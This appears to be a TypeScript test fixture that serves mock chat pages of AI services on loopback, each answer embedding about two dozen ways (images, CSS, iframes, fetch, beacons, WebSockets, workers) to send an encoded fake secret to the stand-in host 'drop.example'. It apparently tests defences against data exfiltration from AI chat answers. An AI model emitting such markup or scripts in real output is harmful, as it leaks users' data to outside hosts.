// Pages of AI services with an answer in them that asks another host for something in every way that markup and scripts
// know, and with what the service itself loads. Under the services' real hosts, on loopback.
import assistantsFile from '../../src/catalog/assistants.json' with { type: 'json' };
import type { AssistantCatalog } from '../../src/model/assistant.ts';
import { html, type Web, type WebAnswer } from './web.ts';

const catalog = assistantsFile as AssistantCatalog;

/** Where the data would go. */
export const SINK = 'drop.example';
/** Made up; the same run of signs in every address. */
export const CARRIED = Buffer.from('card ends 4242, code name heron, due on 3 May').toString('base64url');

/** The page of each service, by id of the catalogue. */
const PAGES: Readonly<Record<string, string>> = {
  chatgpt: 'https://chatgpt.com/c/1',
  claude: 'https://claude.ai/chat/1',
  gemini: 'https://gemini.google.com/app/1',
  copilot: 'https://copilot.microsoft.com/chats/1',
  'm365-copilot': 'https://m365.cloud.microsoft/chat',
  perplexity: 'https://www.perplexity.ai/search/1',
  grok: 'https://grok.com/c/1',
  mistral: 'https://chat.mistral.ai/chat/1',
  deepseek: 'https://chat.deepseek.com/a/chat/1',
  'meta-ai': 'https://www.meta.ai/c/1',
  poe: 'https://poe.com/chat/1',
  duckai: 'https://duck.ai/chat',
  notebooklm: 'https://notebooklm.google.com/notebook/1',
  'github-copilot': 'https://github.com/copilot/c/1',
};
export const SERVICES = Object.entries(PAGES).map(([id, url]) => ({ id, url }));

/** Forms of request by name; each asks the sink for `/<name>`. */
const MARKUP: Readonly<Record<string, (address: string) => string>> = {
  img: (a) => `<img alt="" src="${a}">`,
  srcset: (a) => `<picture><source srcset="${a} 1x"><img alt="" src="data:,"></picture>`,
  'css-url': (a) => `<i style="background:url('${a}');display:block;height:4px"></i>`,
  'svg-image': (a) => `<svg width="8" height="8"><image href="${a}" width="4" height="4"/></svg>`,
  poster: (a) => `<video poster="${a}"></video>`,
  media: (a) => `<audio src="${a}" preload="auto"></audio>`,
  iframe: (a) => `<iframe title="f" src="${a}"></iframe>`,
  object: (a) => `<object data="${a}"></object>`,
  prefetch: (a) => `<link rel="prefetch" href="${a}">`,
  preload: (a) => `<link rel="preload" as="image" href="${a}">`,
  'style-import': (a) => `<style>@import url("${a}");</style>`,
  stylesheet: (a) => `<link rel="stylesheet" href="${a}">`,
  font: (a) => `<style>@font-face{font-family:held;src:url("${a}")}b{font-family:held}</style><b>text</b>`,
  'sandboxed-frame': (a) => `<iframe title="s" sandbox="allow-scripts" srcdoc="<img alt='' src='${a}'>"></iframe>`,
  'written-frame': (a) => `<iframe title="w" srcdoc="<img alt='' src='${a}'>"></iframe>`,
};
const SCRIPT: Readonly<Record<string, (address: string) => string>> = {
  beacon: (a) => `navigator.sendBeacon('${a}', 'x')`,
  fetch: (a) => `fetch('${a}').catch(() => 0)`,
  xhr: (a) => `{const x = new XMLHttpRequest(); x.open('GET', '${a}'); x.send()}`,
  'event-source': (a) => `new EventSource('${a}')`,
  worker: (a) => `new Worker(URL.createObjectURL(new Blob(["fetch('${a}').catch(() => 0)"])))`,
  script: (a) => `document.head.append(Object.assign(document.createElement('script'), { src: '${a}' }))`,
  socket: (a) => `try { new WebSocket('${a.replace('https', 'wss')}') } catch {}`,
};
/** The icon of the page stands in its head; all others in the answer. */
export const FORMS: readonly string[] = ['favicon', ...Object.keys(MARKUP), ...Object.keys(SCRIPT)];

const addressAt = (host: string, form: string): string => `https://${host}/${form}?d=${CARRIED}`;

/** Hosts of its own from which a service's page loads a picture. */
export function ownHosts(id: string): readonly string[] {
  const assistant = catalog.assistants.find((a) => a.id === id);
  const own = assistant?.assetHosts.map(({ host }) => host.replace(/^\*\./, 'static.')) ?? [];
  return [new URL(PAGES[id] ?? '').hostname, ...own].slice(0, 4);
}

/** A service's page with one answer; `allowed`: a further host that the answer loads a picture from. */
function answerPage(id: string, sink: string): string {
  const markup = Object.entries(MARKUP).map(([form, of]) => of(addressAt(sink, form)));
  const script = Object.entries(SCRIPT).map(([form, of]) => of(addressAt(sink, form)));
  const own = ownHosts(id).map((host) => `<img alt="" class="own" src="https://${host}/own/${id}.svg">`);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${id}</title><link rel="icon" href="${addressAt(sink, 'favicon')}"></head><body>
<main>${own.join('')}<p>How is the weather at the pier?</p><div class="answer"><p>Fair, with a light wind.</p>${markup.join('\n')}</div></main>
<script>${script.join(';\n')}</script></body></html>`;
}

/** What the web answers: the services' pages, pictures everywhere, nothing that could run. */
export function answerWeb(url: URL): WebAnswer | null {
  const page = SERVICES.find((s) => s.url === `${url.origin}${url.pathname}`);
  if (page) return html(answerPage(page.id, url.searchParams.get('sink') ?? SINK));
  if (url.pathname.endsWith('/iframe')) return html('<p>frame</p>');
  return { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>' };
}

/** A sink of its own for each service and side, so that all pages can be open at once. */
export const sinkOf = (id: string, side: string): string => `${id}.${side}.${SINK}`;

/** Forms of request that reached a host. */
export const reachedAt = (web: Web, host: string): string[] => [
  ...new Set(
    web.asked
      .map((address) => new URL(address))
      .filter((url) => url.hostname === host)
      .map((url) => url.pathname.slice(1)),
  ),
];
